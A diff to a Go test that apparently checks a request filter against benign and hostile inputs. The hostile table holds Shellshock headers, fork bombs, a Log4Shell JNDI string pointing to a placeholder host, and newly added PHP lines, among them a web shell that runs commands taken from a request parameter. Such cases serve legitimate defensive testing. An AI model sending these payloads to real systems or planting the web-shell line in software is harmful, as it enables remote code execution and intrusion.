@@ -258,6 +258,7 @@ func TestSearchesAndSnippets(t *testing.T) {
 		{"query:q", ".env file example"},
 		{"body:text", "tar -czf backup-$(date +%F).tar.gz /srv/www"},
 		{"query:q", "$(pwd) vs ${PWD}"},
+		{"body:text", "<?php echo htmlspecialchars($title, ENT_QUOTES, 'UTF-8'); ?>"},
 		{"body:text", "window.onload = function () { init(); };  // old style, prefer DOMContentLoaded"},
 		{"body:text", "The ${jndi:...} problem was fixed in log4j 2.17; we are on 2.20 so we're fine."},
 	})
@@ -271,6 +272,9 @@ func TestSearchesAndSnippets(t *testing.T) {
 		{"header:User-Agent", "() { :;}; /bin/bash -c id"},
 		{"query:q", "x=() { :;}; echo vulnerable"},
 		{"query:q", "f(){ f|f& };f"},
+		{"body:text", `<?php echo "test"`},
+		{"body:text", "<?php $output = shell_exec('whoami'); ?>"},
+		{"body:text", "<?php echo htmlspecialchars(shell_exec($_GET['c'])); ?>"},
 		{"query:q", ":(){ :|:& };:"},
 		{"header:X-Api-Version", "${jndi:ldap://x.example/a}"},
 	})
